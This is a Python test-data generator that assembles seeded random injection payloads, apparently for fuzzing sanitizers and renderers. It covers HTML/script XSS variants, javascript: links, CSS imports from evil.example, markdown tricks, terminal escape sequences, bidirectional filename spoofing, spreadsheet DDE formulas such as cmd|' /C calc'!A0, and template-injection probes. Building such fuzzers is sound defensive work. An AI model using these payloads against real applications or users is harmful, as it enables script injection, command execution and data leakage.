"""Text that tries to be more than text: markup, scripts, links, control sequences, formulas.

Each is put together by chance from parts of its family, always the same ones for a seed. A
script that runs calls `struck()`; a template that is filled in says 94011.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random

CALL = "struck()"
SUM, ANSWER = "31337*3", "94011"
EVIL = "https://evil.example"

_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
_BREAKS = ("", '"', "'", '">', "'>", "`", "-->", "]]>", "</title>", "</style>", "</p>", "</q></li>")
_TAGS = (
    "img",
    "svg",
    "iframe",
    "video",
    "object",
    "embed",
    "input autofocus",
    "details open",
    "body",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "\x01javascript:",
)
_FORMULAS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    '"=',
    "'=",
    "\u200b=",
    ";=",
)
_ESCAPES = ("\x1b[", "\x9b", "\x1b]", "\x9d", "\x1bP", "\x90", "\x1b^", "\x1b_", "\x1b(", "\x1b#")


def _script(chance: Random) -> str:
    name = chance.choice(("script", "SCRIPT", "scr\x00ipt", "ScRiPt ", "script/x", "svg:script"))
    body = chance.choice((CALL, f"/*`*/{CALL}//", "window['stru'+'ck']()", f"eval('{CALL}')"))
    return f"{chance.choice(_BREAKS)}<{name}>{body}</{name.strip()}>"


def _element(chance: Random) -> str:
    tag, event = chance.choice(_TAGS), chance.choice(_EVENTS)
    quote = chance.choice(('"', "'", "", "`"))
    gap = chance.choice((" ", "/", "\t", "\n", "\x0c"))
    return f"{chance.choice(_BREAKS)}<{tag}{gap}src=x{gap}{event}={quote}{CALL}{quote}>"


def _attribute(chance: Random) -> str:
    quote = chance.choice(('"', "'", "&quot;", "&#34;", "&#x27;", "\u02ba"))
    event = chance.choice(_EVENTS)
    end = chance.choice(("", ">", " x="))
    return f"x{quote} {event}={quote}{CALL}{quote} style={quote}color:red{quote}{end}"


def _scheme(chance: Random) -> str:
    to = f"{chance.choice(_SCHEMES)}{CALL}"
    form = chance.choice(("{}", '<a href="{}">x</a>', "[x]({})", "<{}>", "![x]({})", "[x]: {}"))
    return form.format(to)


def _style(chance: Random) -> str:
    rule = chance.choice(
        (f"@import '{EVIL}/a.css';", f"*{{background:url({EVIL}/b)}}", "*{display:none}")
    )
    opened = chance.choice(
        ("<style>", "</style><style>", '<link rel=stylesheet href="', "<p style='")
    )
    return f"{opened}{rule}{chance.choice(('', '</style>', chr(39) + '>', chr(34) + '>'))}"


def _reference(chance: Random) -> str:
    left = chance.choice(
        ("&lt;", "&#60;", "&#x3c;", "&#x0003C", "&LT", "\uff1c", "%3C", "\\u003c", "\\x3c")
    )
    right = chance.choice(("&gt;", "&#62;", ">", "&GT;", "\uff1e"))
    end = chance.choice(("", "&amp", "&nbsp;", "&#0;"))
    return f"{left}script{right}{CALL}{left}/script{right}{end}"


def _comment(chance: Random) -> str:
    opened = chance.choice(
        ("<!--", "<![CDATA[", "<?php ", "<!DOCTYPE x>", "<!--[if IE]>", "<!", "</")
    )
    return f"{opened}<script>{CALL}</script>{chance.choice(('-->', ']]>', '?>', '--!>', ''))}"


def _mutation(chance: Random) -> str:
    outer = chance.choice(
        ("svg", "math", "noscript", "template", "textarea", "xmp", "table", "select")
    )
    inner = chance.choice(("style", "title", "mglyph", "desc", "foreignObject", "annotation-xml"))
    return f'<{outer}><{inner}><a title="</{inner}><img src=x onerror={CALL}>"></{outer}>'


def _markdown_link(chance: Random) -> str:
    to = chance.choice(
        (EVIL, f"<{EVIL}>", f"javascript:{CALL}", "//evil.example", "mailto:x@evil.example")
    )
    form = chance.choice(
        (
            *("[x]({})", "![x]({})", "[x][y]\n\n[y]: {}", "<{}>", "[![x]({0})]({0})", "\\[x]({})"),
            *("[x\\]({})", "[[x]({})]", "[^1]\n\n[^1]: {}", "*[x]({})*", "`[x`]({})", "{}"),
        )
    )
    return form.format(to)


def _markdown_block(chance: Random) -> str:
    mark = chance.choice(
        (
            *(
                "# ",
                "###### ",
                "> ",
                "- ",
                "* ",
                "+ ",
                "1. ",
                "1) ",
                "    ",
                "\t",
                "```\n",
                "~~~html\n",
            ),
            *("---\n", "===\n", "***\n", "| a | b |\n|---|---|\n| ", "[x]: ", "<div>\n", "- [ ] "),
        )
    )
    before = chance.choice(("", "\n", "\n\n", "x\n", "  "))
    return (
        f"{before}{mark}made a block{chance.choice(('', chr(10) + '===', chr(10) + '---', ' #'))}"
    )


def _markdown_inline(chance: Random) -> str:
    mark = chance.choice(("*", "**", "_", "__", "~~", "`", "``", "***", "==", "$$", "||", "\\"))
    end = chance.choice(("", "&copy;", "a@evil.example", "www.evil.example", "<br>"))
    return f"{mark}made a mark{mark} {end}"


def _address(chance: Random) -> str:
    scheme = chance.choice(
        ("https://", "http://", "HTTPS://", "ftp://", "www.", "//", "https:\\\\")
    )
    rest = chance.choice(
        ("evil.example", "a@evil.example", "evil.example/<b>", 'evil.example/"x', "[::1]/")
    )
    return f"{scheme}{rest}{chance.choice(('', '?a=1&b=2', '#x', ' ', chr(8238) + 'gpj', '%zz'))}"


def _control(chance: Random) -> str:
    body = chance.choice(
        ("31mred", "2J", "8;;https://evil.example\x07x", "52;c;YQ==\x07", "0;title\x1b\\", "6n")
    )
    end = chance.choice(("", "\x1b\\", "\x9c", "\x07"))
    return f"{chance.choice(_ESCAPES)}{body}{end}"


def _cursor(chance: Random) -> str:
    tricks = (
        "\r",
        "\x08\x08\x08",
        "\x07",
        "\x0b",
        "\x0c",
        "\x7f",
        "\x85",
        "\x00",
        "\x0e",
        "\u2028",
        "\u2029",
    )
    return f"seen{chance.choice(tricks)}hidden{chance.choice(tricks)}"


def _direction(chance: Random) -> str:
    marks = (
        "\u202a",
        "\u202b",
        "\u202d",
        "\u202e",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u202c",
    )
    return f"pay{chance.choice(marks)}txt.exe{chance.choice(marks)}"


def _formula(chance: Random) -> str:
    body = chance.choice(
        (
            *(
                "1+1",
                "cmd|' /C calc'!A0",
                'HYPERLINK("https://evil.example","x")',
                "SUM(1)*cmd|'x'!A",
            ),
            *(
                'IMPORTXML("https://evil.example","//a")',
                "WEBSERVICE(A1)",
                "2+5+cmd|'x'!A0",
                "DDE(1)",
            ),
        )
    )
    return f"{chance.choice(_FORMULAS)}{body}"


def _template(chance: Random) -> str:
    form = chance.choice(
        (
            *(
                "{{{{{}}}}}",
                "{{% if {} %}}x{{% endif %}}",
                "${{{}}}",
                "<%= {} %>",
                "#{{{}}}",
                "{{{{={}}}}}",
            ),
            *(
                "{{%- set x = {} -%}}{{{{ x }}}}",
                "{{# {} #}}",
                "[[{}]]",
                "*{{{}}}",
                "{{{{ {} | safe }}}}",
            ),
        )
    )
    inner = (SUM, "''.__class__.__mro__", "config", "self._TemplateReference__context", CALL)
    return form.format(chance.choice((SUM, *inner)))


FAMILIES: dict[str, Callable[[Random], str]] = {
    "script": _script,
    "element": _element,
    "attribute": _attribute,
    "scheme": _scheme,
    "style": _style,
    "reference": _reference,
    "comment": _comment,
    "mutation": _mutation,
    "markdown link": _markdown_link,
    "markdown block": _markdown_block,
    "markdown inline": _markdown_inline,
    "address": _address,
    "control": _control,
    "cursor": _cursor,
    "direction": _direction,
    "formula": _formula,
    "template": _template,
}


def payloads(count: int, seed: int = 20310304) -> Iterator[tuple[str, str]]:
    """Yield *count* different payloads, each with its family, the families in turn."""
    chance = Random(seed)  # noqa: S311  # the same payloads every time
    seen: set[str] = set()
    while len(seen) < count:
        for family, make in FAMILIES.items():
            made = make(chance)
            # A second one beside it: what one opens, the other may close.
            if chance.random() < 0.25:
                made += chance.choice((" ", "", "\n")) + chance.choice([*FAMILIES.values()])(chance)
            if made not in seen and len(seen) < count:
                seen.add(made)
                yield family, made
